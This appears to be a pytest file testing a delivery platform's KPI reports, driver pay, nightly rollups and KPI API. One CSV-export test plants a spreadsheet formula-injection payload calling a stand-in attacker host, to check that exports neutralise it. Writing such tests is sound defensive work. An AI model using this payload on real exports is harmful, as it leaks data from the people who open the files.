"""ADR-031: every KPI on a small hand-built day equals the number worked out by hand, through the real actions."""

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal

import pytest

from analytics import kpis
from analytics.facts import zone_day_facts
from analytics.models import DriverDay, ZoneDay
from analytics.rollup import roll_up_day
from core.audit import Actor
from deliveries.models import Delivery, DeliveryCost
from deliveries.pricing import money
from deliveries.services import balancing, escalations, offers, progress, reassignment
from deliveries.services.availability import go_online, set_availability
from deliveries.services.ladder import dispatch_waiting
from tests import factories
from tests.plans import whole_table_reads

pytestmark = pytest.mark.django_db
DAY = date(2026, 11, 25)  # the clock fixture's day (12:00 UTC); the demo zones keep UTC


def _offer(delivery):
    return factories.pending_offer(delivery)


class Timeline:
    """Seconds since the scenario began, on the frozen clock."""

    def __init__(self, clock):
        self.clock, self.now = clock, 0

    def at(self, seconds: float) -> None:
        self.clock.shift(seconds - self.now)
        self.now = seconds


@pytest.fixture
def three_deliveries(merchant, clock):
    """t=0: D1 offered to A, declined (too far) at 10 s, offered to B, accepted at 30 s.
    t=60: D2 offered to A (B is busy), accepted at 85 s.  B delivers D1 at 900 s (picked up 300), A delivers
    D2 at 1000 s (picked up 400). t=1200: D3 offered to A, accepted at 1205 s, cancelled by the merchant at
    1400 s. The report is read at 1500 s."""
    at = Timeline(clock).at
    a, b = (
        factories.online_driver(*factories.east(0.5), name="Ana A"),
        factories.online_driver(*factories.east(1.5), name="Bruno B"),
    )
    d1 = factories.new_delivery(merchant, "d1")
    at(10)
    offers.decline_offer(_offer(d1).pk, actor=Actor.driver(a), reason="too_far")
    at(30)
    offers.accept_offer(_offer(d1).pk, actor=Actor.driver(b))
    at(60)
    factories.ping(a, *factories.east(0.5))
    d2 = factories.new_delivery(merchant, "d2")
    at(85)
    offers.accept_offer(_offer(d2).pk, actor=Actor.driver(a))
    at(300)
    progress.pick_up_delivery(d1.pk, actor=Actor.driver(b))
    at(400)
    progress.pick_up_delivery(d2.pk, actor=Actor.driver(a))
    at(900)
    progress.deliver_delivery(d1.pk, actor=Actor.driver(b))
    at(1000)
    progress.deliver_delivery(d2.pk, actor=Actor.driver(a))
    at(1200)
    factories.ping(a, *factories.east(0.5))
    factories.ping(b, *factories.east(1.5))
    d3 = factories.new_delivery(merchant, "d3")
    at(1205)
    offers.accept_offer(_offer(d3).pk, actor=Actor.driver(a))
    at(1400)
    progress.cancel_delivery(d3.pk, actor=Actor.merchant(merchant), reason="customer left")
    at(1500)
    return {"a": a, "b": b, "d1": d1, "d2": d2, "d3": d3}


def test_delivery_kpis_of_a_hand_built_day(three_deliveries, zones):
    figures = kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries
    assert (figures["deliveries"], figures["delivered"], figures["cancelled"], figures["failed"]) == (3, 2, 1, 0)
    assert figures["offers_per_delivery"] == pytest.approx(4 / 3, abs=1e-4)
    assert figures["first_offer_success_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert figures["acceptance_rate"] == 0.75  # of the 4 offers, 3 accepted
    assert figures["decline_reasons"] == {"too_far": 1}
    assert figures["completion_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert figures["cancellation_rate"] == pytest.approx(1 / 3, abs=1e-4)
    # Created → first assigned: 30, 25 and 5 s; nearest rank: p50 is the 2nd of 3, p90 the 3rd.
    assert (figures["time_to_assign_p50_s"], figures["time_to_assign_p90_s"]) == (25.0, 30.0)
    # Created → delivered: 900 and 940 s.
    assert (figures["delivery_time_p50_s"], figures["delivery_time_p90_s"]) == (900.0, 940.0)
    assert (figures["reassignments"], figures["manual_reassignments"]) == (0, 0)
    assert figures["escalations_by_level"] == {"1": 0, "2": 0, "3": 0}
    # ETA accuracy of the two delivered: |delivered − predicted at assignment|, and inside the predicted window?
    delivered = Delivery.objects.filter(external_id__in=["d1", "d2"])
    errors = [abs((d.finished_at - d.eta_predicted_at_assignment).total_seconds()) for d in delivered]
    inside = [d.eta_window_start_at_assignment <= d.finished_at <= d.eta_window_end_at_assignment for d in delivered]
    assert figures["eta_mae_s"] == pytest.approx(sum(errors) / 2, abs=1)  # whole seconds recorded
    assert figures["eta_in_window_rate"] == sum(inside) / 2


def test_cost_and_margin_of_a_hand_built_day(three_deliveries, zones):
    d1, d2, d3 = (DeliveryCost.objects.get(delivery=three_deliveries[key]) for key in ("d1", "d2", "d3"))
    # D1: B rode to pickup (the accepted offer's distance) and on to the dropoff, 870 s (14.5 min) after assignment.
    ridden = d1.delivery.offers.get(status="accepted").distance_km + d1.delivery.distance_km
    assert d1.distance_km == pytest.approx(ridden, abs=1e-3)
    assert (d1.pay_base, d1.pay_time, d1.pay_surge, d1.pay_waiting) == (
        Decimal("2.50"), Decimal("2.18"), Decimal("0.00"), Decimal("0.00"),
    )  # fmt: skip
    assert d1.pay_distance == money(Decimal("0.60") * Decimal(str(round(ridden, 3))))
    assert d1.driver_pay == d1.pay_base + d1.pay_distance + d1.pay_time
    assert (d1.fee, d1.margin) == (d1.delivery.fee, d1.delivery.fee - d1.driver_pay)
    # D2: 915 s = 15.25 min after assignment at 85 s: 2.2875, half up.
    assert d2.pay_time == Decimal("2.29")
    # D3, cancelled at 1400 s, 195 s after A accepted: no fee, A paid base + the ride to pickup + 3.25 min.
    assert (d3.outcome, d3.fee, d3.pay_time) == ("cancelled", Decimal("0.00"), Decimal("0.49"))
    # Idle (available) time, read at 1500 s: A 0-85, 1000-1205, 1400-1500 = 390 s; B 0-30, 900-1500 = 630 s.
    # 1020 s = 17 min at 0.10/min.
    figures = kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries
    pay = d1.driver_pay + d2.driver_pay + d3.driver_pay
    assert Decimal(figures["idle_pay"]) == Decimal("1.70")
    assert figures["surge_pay"] == "0.00"  # no surge until zone balancing sets offers' multipliers
    assert Decimal(figures["cost_per_delivery"]) == ((pay + Decimal("1.70")) / 2).quantize(Decimal("0.01"))
    fees = d1.fee + d2.fee
    assert Decimal(figures["margin_per_delivery"]) == ((fees - pay - Decimal("1.70")) / 2).quantize(Decimal("0.01"))


def test_driver_kpis_of_a_hand_built_day(three_deliveries, zones):
    rows = {row["name"]: row for row in kpis.kpi_report(DAY, DAY).drivers}
    a, b = rows["Ana A"], rows["Bruno B"]
    assert (a["offers_received"], a["accepted"], a["declined"], a["expired"]) == (3, 2, 1, 0)
    assert a["acceptance_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert a["decline_reasons"] == {"too_far": 1}
    assert a["time_to_respond_p50_s"] == 10.0  # 10 s (decline), 25 s (D2), 5 s (D3)
    assert (b["offers_received"], b["acceptance_rate"], b["time_to_respond_p50_s"]) == (1, 1.0, 20.0)
    # Busy: A 85-1000 and 1205-1400 = 1110 s of 1500 online; B 30-900 = 870 s.
    assert a["utilisation"] == pytest.approx(1110 / 1500, abs=1e-4)
    assert b["utilisation"] == pytest.approx(870 / 1500, abs=1e-4)
    assert (a["hours_busy"], a["hours_available"]) == (round(1110 / 3600, 2), round(390 / 3600, 2))
    assert (a["deliveries_completed"], b["deliveries_completed"]) == (1, 1)
    b_pay = DeliveryCost.objects.get(delivery=three_deliveries["d1"]).driver_pay
    assert Decimal(b["earnings"]) == b_pay + Decimal("1.05")  # + 630 s idle = 10.5 min at 0.10
    assert (a["releases"], a["release_rate"], a["offline_events"], a["stale_events"]) == (0, 0.0, 0, 0)


def test_a_forced_assignment_is_not_counted_as_an_offer_answered(merchant, clock, zones, ops_user):
    """A declines; ops then force the delivery onto A. The forced one is recorded as an accepted offer, but nobody
    was asked: the zone's and the driver's offer figures count the one decline only."""
    a = factories.online_driver(*factories.east(0.5), name="Ana A")
    delivery = factories.new_delivery(merchant, "d1")
    clock.shift(10)
    offers.decline_offer(_offer(delivery).pk, actor=Actor.driver(a), reason="busy")
    clock.shift(20)
    reassignment.force_assign(delivery.pk, driver_id=a.pk, actor=Actor.ops(ops_user))
    assert Delivery.objects.get(pk=delivery.pk).status == "assigned"
    figures = kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries
    assert (figures["offers"], figures["acceptance_rate"], figures["first_offer_success_rate"]) == (1, 0.0, 0.0)
    row = {row["name"]: row for row in kpis.kpi_report(DAY, DAY).drivers}["Ana A"]
    assert (row["offers_received"], row["accepted"], row["declined"], row["acceptance_rate"]) == (1, 0, 1, 0.0)


def test_reassignments_escalations_releases_and_acknowledgement(merchant, clock, zones, ops_user):
    """C accepts at 10 s and releases at 60 s: nobody else in reach, so the search widens (level 1) and an
    escalation opens (level 2). Ops acknowledge at 180 s, force it onto D at 240 s, then send it back to
    dispatch at 300 s (a manual reassignment): still nobody, a level-2 escalation opens again."""
    at = Timeline(clock).at
    c = factories.online_driver(*factories.east(0.5), name="Carla C")
    delivery = factories.new_delivery(merchant, "e1")
    at(10)
    offers.accept_offer(_offer(delivery).pk, actor=Actor.driver(c))
    at(60)
    reassignment.release_delivery(delivery.pk, actor=Actor.driver(c), reason="flat tyre")
    opened = delivery.escalations.get()
    at(180)
    escalations.acknowledge_escalation(opened.pk, actor=Actor.ops(ops_user))
    d = factories.online_driver(*factories.NORTE, name="Duarte D")
    at(240)
    reassignment.force_assign(delivery.pk, driver_id=d.pk, actor=Actor.ops(ops_user))
    at(300)
    reassignment.send_back_to_dispatch(delivery.pk, actor=Actor.ops(ops_user))

    figures = kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries
    assert (figures["reassignments"], figures["manual_reassignments"]) == (2, 1)
    assert figures["escalations_by_level"] == {"1": 2, "2": 2, "3": 0}
    assert figures["time_to_acknowledge_p50_s"] == 120.0
    assert figures["time_to_assign_p50_s"] == 10.0  # to the first assignment
    assert figures["first_offer_success_rate"] == 1.0
    c_row = next(row for row in kpis.kpi_report(DAY, DAY).drivers if row["name"] == "Carla C")
    assert (c_row["releases"], c_row["release_rate"]) == (1, 1.0)


def test_hours_in_each_state_and_a_driver_gone_stale(merchant, clock, zones):
    """Online at 0, a break from 100 to 700 s, last ping at 700, set offline as stale at 900 s (200 s silent)."""
    from deliveries.services.availability import end_break, mark_stale_drivers, start_break

    at = Timeline(clock).at
    e = factories.online_driver(*factories.east(0.5), name="Eva E")
    at(100)
    start_break(e.pk, actor=Actor.driver(e))
    at(700)
    end_break(e.pk, actor=Actor.driver(e))
    factories.ping(e, *factories.east(0.5))
    at(900)
    assert mark_stale_drivers() == 1
    at(4500)
    row = next(row for row in kpis.kpi_report(DAY, DAY).drivers if row["name"] == e.name)
    assert (row["offline_events"], row["stale_events"]) == (1, 1)
    # Available 0-100 and 700-900 s; on a break 600 s; never busy; offline from 900 s to the report at 4500 s (the
    # account exists from 0 s: no hours before it).
    assert (row["hours_available"], row["hours_on_break"], row["hours_busy"], row["hours_offline"]) == (
        round(300 / 3600, 2), round(600 / 3600, 2), 0.0, 1.0,
    )  # fmt: skip
    assert row["utilisation"] == 0.0


def test_rollup_is_idempotent_and_the_report_reads_it(three_deliveries, zones):
    live = kpis.kpi_report(DAY, DAY).as_dict()
    roll_up_day(zones["centro"], DAY)
    first = (
        list(ZoneDay.objects.values("zone_id", "day", "facts")),
        list(DriverDay.objects.values("driver_id", "day", "facts")),
    )
    roll_up_day(zones["centro"], DAY)
    again = (
        list(ZoneDay.objects.values("zone_id", "day", "facts")),
        list(DriverDay.objects.values("driver_id", "day", "facts")),
    )
    assert first == again and len(first[0]) == 1 and len(first[1]) == 2
    assert kpis.kpi_report(DAY, DAY).as_dict() == live
    # The report reads the stored row, not the raw data: a row changed by hand shows.
    ZoneDay.objects.filter(zone=zones["centro"]).update(facts=zone_day_facts(zones["centro"], DAY) | {"offers": 9})
    assert kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries["offers"] == 9


def test_kpi_api_json_and_csv_hold_the_same_rows(three_deliveries, ops_api):
    answer = ops_api.get("/api/v1/ops/kpis", {"from": "2026-11-25", "to": "2026-11-25", "zone": "centro"})
    assert answer.status_code == 200, answer.content
    body = answer.json()
    assert body["deliveries"]["offers_per_delivery"] == pytest.approx(4 / 3, abs=1e-4)
    assert [row["zone"] for row in body["zones"]] == ["centro"] and len(body["drivers"]) == 2
    streamed = ops_api.get(
        "/api/v1/ops/kpis", {"from": "2026-11-25", "to": "2026-11-25", "zone": "centro", "format": "csv"}
    )
    assert streamed.status_code == 200 and streamed.streaming
    assert streamed["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(streamed.streaming_content).decode())))
    expected = [{"table": "deliveries"} | _flat(body["deliveries"])]
    expected += [{"table": table} | _flat(row) for table in ("zones", "days", "drivers") for row in body[table]]
    assert len(rows) == len(expected) == 1 + 1 + 1 + 2
    for row, json_row in zip(rows, expected, strict=True):
        assert {key: value for key, value in row.items() if value != ""} == {
            key: _as_csv(value) for key, value in json_row.items() if value is not None
        }


def _flat(row: dict) -> dict:
    flat = {}
    for key, value in row.items():
        flat.update({f"{key}.{k}": v for k, v in value.items()} if isinstance(value, dict) else {key: value})
    return flat


def _as_csv(value) -> str:
    return str(value)


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"to": "2026-11-25"}, "from"),
        ({"from": "2026-11-26", "to": "2026-11-25"}, "to"),
        ({"from": "2026-11-25", "to": "2026-11-25", "zone": "atlantis"}, "zone"),
        ({"from": "nope", "to": "2026-11-25"}, "from"),
        ({"from": "2024-01-01", "to": "2026-11-25"}, "to"),
        ({"from": "2026-11-25", "to": "2026-11-25", "format": "xml"}, "format"),
        ({"to": "2026-11-25", "format": "csv"}, "from"),  # asked for CSV, refused in JSON (was a 500: found by fuzzing)
    ],
)
def test_kpi_api_bad_input_is_a_400_naming_the_field(ops_api, zones, query, field):
    answer = ops_api.get("/api/v1/ops/kpis", query)
    assert answer.status_code == 400, answer.content
    assert answer.json()["code"] == "invalid" and field in answer.json()["fields"]


@pytest.mark.parametrize(("first", "last"), [("9999-12-31", "9999-12-31"), ("0001-01-01", "0001-01-01")])
def test_the_first_and_last_days_of_the_calendar_give_an_empty_report(merchant, clock, zones, ops_api, first, last):
    """The last day a date can hold has no next day to end its window: with any activity recorded, asking for it
    was a 500. The first, in a zone ahead of UTC, starts before the first instant a datetime can hold."""
    zones["centro"].time_zone = "Asia/Tokyo"
    zones["centro"].save()
    factories.new_delivery(merchant, "d1")
    answer = ops_api.get("/api/v1/ops/kpis", {"from": first, "to": last})
    assert answer.status_code == 200, answer.content
    assert answer.json()["deliveries"]["deliveries"] == 0
    assert [row["deliveries"] for row in answer.json()["days"]] == [0]


def test_money_of_a_range_with_no_activity_has_two_places(merchant, clock, zones, ops_api):
    """Nothing happened on the 20th, nor in Este today: zero money is "0.00", as every amount is (API.md)."""
    factories.new_delivery(merchant, "d1")
    quiet = ops_api.get("/api/v1/ops/kpis", {"from": "2026-11-20", "to": "2026-11-20"}).json()
    today = ops_api.get("/api/v1/ops/kpis", {"from": "2026-11-25", "to": "2026-11-25", "zone": "este"}).json()
    for figures in (quiet["deliveries"], quiet["zones"][0], quiet["days"][0], today["deliveries"]):
        amounts = [figures[key] for key in ("driver_pay", "idle_pay", "surge_pay", "fees")]
        assert amounts == ["0.00"] * 4
        assert (figures["cost_per_delivery"], figures["margin_per_delivery"]) == (None, None)


def test_options_describes_the_kpi_endpoint_in_json_whatever_format_is_asked(ops_api, zones):
    plain = ops_api.options("/api/v1/ops/kpis")
    asked_csv = ops_api.options("/api/v1/ops/kpis?format=csv")
    assert plain.status_code == asked_csv.status_code == 200, asked_csv.content
    assert asked_csv["Content-Type"] == "application/json"
    assert asked_csv.json() == plain.json()


def test_kpi_api_is_for_ops_only(merchant_api, zones, client):
    assert client.get("/api/v1/ops/kpis?from=2026-11-25&to=2026-11-25").status_code == 401
    assert merchant_api.get("/api/v1/ops/kpis?from=2026-11-25&to=2026-11-25").status_code == 403


def test_the_kpi_endpoint_is_in_the_openapi_schema(client):
    schema = client.get("/api/schema/", {"format": "json"}).json()
    operation = schema["paths"]["/api/v1/ops/kpis"]["get"]
    assert {parameter["name"] for parameter in operation["parameters"]} >= {"from", "to", "zone", "format"}
    assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv"}
    figures = schema["components"]["schemas"]["DeliveryFigures"]["properties"]
    assert {"offers_per_delivery", "first_offer_success_rate", "time_to_assign_p90_s", "eta_mae_s"} <= set(figures)


def test_waiting_at_pickup_and_surge_are_paid(merchant, clock, zones):
    """Ready in 20 min: the offer is held back until just in time; the driver is paid for arriving before the
    food is ready (not surged), and the accepted offer's surge multiplies base, distance and time."""
    from datetime import timedelta

    from deliveries.models import Offer

    driver = factories.online_driver(*factories.east(0.5))
    delivery = factories.new_delivery(merchant, "w1", ready_at=(_now() + timedelta(minutes=20)).isoformat())
    assert delivery.status == "pending"  # held back for ready_at
    delivery.refresh_from_db()
    clock.shift((delivery.dispatch_not_before - _now()).total_seconds())
    factories.ping(driver, *factories.east(0.5))
    dispatch_waiting()
    offer = factories.pending_offer(delivery)
    Offer.objects.filter(pk=offer.pk).update(surge_multiplier=Decimal("1.50"))  # as zone balancing will set it
    offers.accept_offer(offer.pk, actor=Actor.driver(driver))
    delivery.refresh_from_db()
    clock.shift((delivery.ready_at - _now()).total_seconds() + 60)
    progress.pick_up_delivery(delivery.pk, actor=Actor.driver(driver))
    clock.shift(600)
    progress.deliver_delivery(delivery.pk, actor=Actor.driver(driver))

    cost = DeliveryCost.objects.get(delivery=delivery)
    arrived = delivery.assigned_at + timedelta(seconds=offer.eta_to_pickup_s)
    waited_min = round((delivery.ready_at - arrived).total_seconds() / 60, 2)
    assert waited_min > 0
    assert cost.pay_waiting == money(Decimal("0.10") * Decimal(str(waited_min)))
    assert cost.surge_multiplier == Decimal("1.50")
    assert cost.pay_surge == money((cost.pay_base + cost.pay_distance + cost.pay_time) * Decimal("0.5"))
    assert cost.driver_pay == cost.pay_base + cost.pay_distance + cost.pay_time + cost.pay_surge + cost.pay_waiting


def test_days_are_the_zones_local_days(merchant, clock, zones):
    """12:00 UTC is 21:00 in Tokyo on the 25th; 16:00 UTC is already 01:00 on the 26th there."""
    zones["centro"].time_zone = "Asia/Tokyo"
    zones["centro"].save()
    factories.new_delivery(merchant, "tokyo-1")
    clock.shift(4 * 3600)
    factories.new_delivery(merchant, "tokyo-2")
    report = kpis.kpi_report(DAY, date(2026, 11, 26), zone=zones["centro"])
    assert [(row["day"], row["deliveries"]) for row in report.days] == [("2026-11-25", 1), ("2026-11-26", 1)]


@pytest.mark.parametrize(("day", "hours_in_day"), [(date(2026, 3, 29), 23), (date(2026, 10, 25), 25)])
def test_hours_on_a_daylight_saving_day_are_the_hours_that_day_had(merchant, clock, zones, ops_api, day, hours_in_day):
    """Lisbon moves its clocks on these days: 23 h, then 25 h. Dora is available from the day before to the day
    after; Otto, whose account exists from the day before, is available 2 h that day and offline the rest."""
    zones["centro"].time_zone = "Europe/Lisbon"
    zones["centro"].save()
    clock.move_to(datetime.combine(day - timedelta(days=1), time(12), tzinfo=UTC))
    factories.online_driver(*factories.east(0.5), name="Dora D")
    otto = factories.DriverFactory(name="Otto O")
    clock.move_to(datetime.combine(day, time(10), tzinfo=UTC))
    go_online(otto.pk, actor=Actor.driver(otto))
    clock.shift(2 * 3600)
    set_availability("offline", actor=Actor.driver(otto))
    clock.move_to(datetime.combine(day + timedelta(days=2), time(12), tzinfo=UTC))

    answer = ops_api.get("/api/v1/ops/kpis", {"from": day.isoformat(), "to": day.isoformat()})
    assert answer.status_code == 200, answer.content
    rows = {row["name"]: row for row in answer.json()["drivers"]}
    assert (rows["Dora D"]["hours_available"], rows["Dora D"]["hours_offline"]) == (hours_in_day, 0.0)
    assert (rows["Otto O"]["hours_available"], rows["Otto O"]["hours_offline"]) == (2.0, hours_in_day - 2)
    # Paid idle time, hours_in_day + 2 h at 0.10 a minute.
    assert answer.json()["deliveries"]["idle_pay"] == f"{(hours_in_day + 2) * 6}.00"


def _now():
    from django.utils import timezone

    return timezone.now()


def test_the_nightly_task_rolls_up_the_last_two_days_of_every_zone(zones, clock):
    from django_celery_beat.models import PeriodicTask

    from analytics.tasks import roll_up_kpis_task

    schedule = PeriodicTask.objects.get(task="analytics.tasks.roll_up_kpis_task")
    assert (schedule.crontab.hour, schedule.crontab.minute, schedule.enabled) == ("2", "30", True)
    assert roll_up_kpis_task.delay().get() == 2 * 3
    assert set(ZoneDay.objects.values_list("day", flat=True)) == {date(2026, 11, 23), date(2026, 11, 24)}
    assert roll_up_kpis_task.delay().get() == 6 and ZoneDay.objects.count() == 6  # again: the same rows


def test_the_nightly_rollup_writes_only_days_already_over_in_each_zones_time_zone(zones, clock):
    """02:30 UTC on the 26th is 18:30 on the 25th in Los Angeles, 11:30 on the 26th in Tokyo and 15:30 on the
    26th in Auckland: each zone's last two days that are over, none still going on there."""
    from analytics.facts import day_window
    from analytics.tasks import roll_up_kpis_task

    for code, time_zone in [("centro", "America/Los_Angeles"), ("norte", "Asia/Tokyo"), ("este", "Pacific/Auckland")]:
        zones[code].time_zone = time_zone
        zones[code].save()
    clock.move_to(datetime(2026, 11, 26, 2, 30, tzinfo=UTC))
    roll_up_kpis_task.delay().get()
    rows = ZoneDay.objects.select_related("zone")
    assert {(row.zone.code, row.day.isoformat()) for row in rows} == {
        ("centro", "2026-11-23"), ("centro", "2026-11-24"),
        ("norte", "2026-11-24"), ("norte", "2026-11-25"),
        ("este", "2026-11-24"), ("este", "2026-11-25"),
    }  # fmt: skip
    assert all(day_window(row.zone, row.day)[1] <= _now() for row in rows)


def test_a_range_of_days_can_be_rolled_up_by_hand(three_deliveries, zones, clock):
    from django.core.management import CommandError, call_command

    clock.move_to(datetime.combine(DAY + timedelta(days=1), time(1), tzinfo=UTC))
    out = io.StringIO()
    call_command("roll_up_kpis", "--from", "2026-11-24", "--to", "2026-11-25", "--zone", "centro", stdout=out)
    assert out.getvalue() == "rolled up 2 zone-days\n"
    assert ZoneDay.objects.get(zone=zones["centro"], day=DAY).facts["deliveries"] == 3
    with pytest.raises(CommandError, match="on or after"):
        call_command("roll_up_kpis", "--from", "2026-11-25", "--to", "2026-11-24")
    with pytest.raises(CommandError, match="no zone"):
        call_command("roll_up_kpis", "--from", "2026-11-25", "--to", "2026-11-25", "--zone", "atlantis")


def test_a_day_not_over_in_its_zone_is_not_rolled_up_by_hand(merchant, clock, zones, ops_api):
    """At 02:00 UTC on the 26th it is 18:00 on the 25th in Los Angeles. Rolled up by hand then, that zone's 25th
    stood at its afternoon's orders until the nightly rollup of the 27th: its evening's orders never showed."""
    from django.core.management import call_command

    zones["centro"].time_zone = "America/Los_Angeles"
    zones["centro"].save()
    clock.move_to(datetime(2026, 11, 26, 2, 0, tzinfo=UTC))
    factories.new_delivery(merchant, "afternoon")
    out = io.StringIO()
    call_command("roll_up_kpis", "--from", "2026-11-24", "--to", "2026-11-25", "--zone", "centro", stdout=out)
    clock.shift(3600)
    factories.new_delivery(merchant, "evening")
    answer = ops_api.get("/api/v1/ops/kpis", {"from": "2026-11-25", "to": "2026-11-25", "zone": "centro"})
    assert answer.json()["deliveries"]["deliveries"] == 2
    assert out.getvalue() == "rolled up 1 zone-days\nleft out 1 zone-days not over yet in their zone's time zone\n"


def test_zone_balancing_snapshots_give_band_shares_pressure_and_surge(zones, clock):
    from zones.models import ZoneSnapshot

    counts = {"demand_open": 1, "demand_recent": 1, "supply_available": 1, "supply_busy": 0, "supply_on_break": 0}
    for minute, (band, pressure, surge) in enumerate(
        [("normal", 0.5, "1.00"), ("busy", 1.5, "1.20"), ("critical", 3.0, "1.50")]
    ):
        ZoneSnapshot.objects.create(
            zone=zones["centro"], taken_at=_now() - timedelta(minutes=minute), band=band, pressure=pressure,
            surge_multiplier=Decimal(surge), **counts,
        )  # fmt: skip
    figures = kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries
    assert (figures["critical_share"], figures["busy_share"]) == (round(1 / 3, 4), round(1 / 3, 4))
    assert (figures["mean_pressure"], figures["mean_surge_multiplier"]) == (round(5.0 / 3, 2), round(3.7 / 3, 2))


def test_time_to_assign_counts_from_the_end_of_a_ready_at_hold(merchant, clock, zones):
    driver = factories.online_driver(*factories.east(0.5))
    delivery = factories.new_delivery(merchant, "held", ready_at=(_now() + timedelta(minutes=20)).isoformat())
    delivery.refresh_from_db()
    clock.shift((delivery.dispatch_not_before - _now()).total_seconds())
    factories.ping(driver, *factories.east(0.5))
    dispatch_waiting()
    clock.shift(15)
    offers.accept_offer(factories.pending_offer(delivery).pk, actor=Actor.driver(driver))
    assert kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries["time_to_assign_p50_s"] == 15.0


def test_time_to_assign_is_to_the_first_assignment_when_a_release_sets_a_later_hold(merchant, clock, zones):
    """Ready in 30 min. The hold ends, Fay (1.2 km away) is offered it and accepts 10 s later, then releases it:
    Nico, 0.2 km away, could set off later, so the delivery is held again. Time to assign was 10 s; counted
    from the new hold it came out negative."""
    fay = factories.online_driver(*factories.east(1.2), name="Fay F")
    delivery = factories.new_delivery(merchant, "held", ready_at=(_now() + timedelta(minutes=30)).isoformat())
    delivery.refresh_from_db()
    clock.shift((delivery.dispatch_not_before - _now()).total_seconds())
    factories.ping(fay, *factories.east(1.2))
    dispatch_waiting()
    clock.shift(10)
    offers.accept_offer(factories.pending_offer(delivery).pk, actor=Actor.driver(fay))
    factories.online_driver(*factories.east(0.2), name="Nico N")
    clock.shift(10)
    reassignment.release_delivery(delivery.pk, actor=Actor.driver(fay), reason="flat tyre")
    delivery.refresh_from_db()
    assert (delivery.status, delivery.dispatch_outcome) == ("pending", "held")
    assert kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries["time_to_assign_p50_s"] == 10.0


def test_a_delivery_ops_assign_during_its_hold_took_no_time_to_assign(merchant, clock, zones, ops_user):
    """Ready in an hour, so held for most of it; ops force it onto Ana a minute after it came in. It waited for
    no driver: 0 s, not minus the rest of the hold."""
    ana = factories.online_driver(*factories.east(0.5), name="Ana A")
    delivery = factories.new_delivery(merchant, "held", ready_at=(_now() + timedelta(minutes=60)).isoformat())
    clock.shift(60)
    reassignment.force_assign(delivery.pk, driver_id=ana.pk, actor=Actor.ops(ops_user))
    figures = kpis.kpi_report(DAY, DAY, zone=zones["centro"]).deliveries
    assert (figures["time_to_assign_p50_s"], figures["time_to_assign_p90_s"]) == (0.0, 0.0)


def test_names_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text(three_deliveries, ops_api, zones):
    from drivers.models import Driver

    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Ana")'
    Driver.objects.filter(pk=three_deliveries["a"].pk).update(name=formula)
    query = {"from": "2026-11-25", "to": "2026-11-25", "zone": "centro"}
    names = {row["name"] for row in ops_api.get("/api/v1/ops/kpis", query).json()["drivers"]}
    assert formula in names  # the JSON holds the name as typed

    streamed = ops_api.get("/api/v1/ops/kpis", query | {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(streamed.streaming_content).decode())))
    assert {row["name"] for row in rows if row["table"] == "drivers"} == {"'" + formula, "Bruno B"}
    assert all(not value.startswith(("=", "+", "@")) for row in rows for value in row.values())


@pytest.mark.postgres
def test_a_kpi_report_reads_no_zone_snapshot_that_its_days_do_not_need(zones, clock):
    """Zone snapshots are taken every minute in every zone and all kept (1440 a zone each day): a report must not
    read every snapshot ever taken (learning where the history starts read and sorted the whole table, twice per
    report)."""
    for _ in range(3):
        clock.shift(60)
        balancing.take_zone_snapshots()
    assert whole_table_reads(lambda: kpis.kpi_report(DAY, DAY), {"zones_zonesnapshot"}) == []
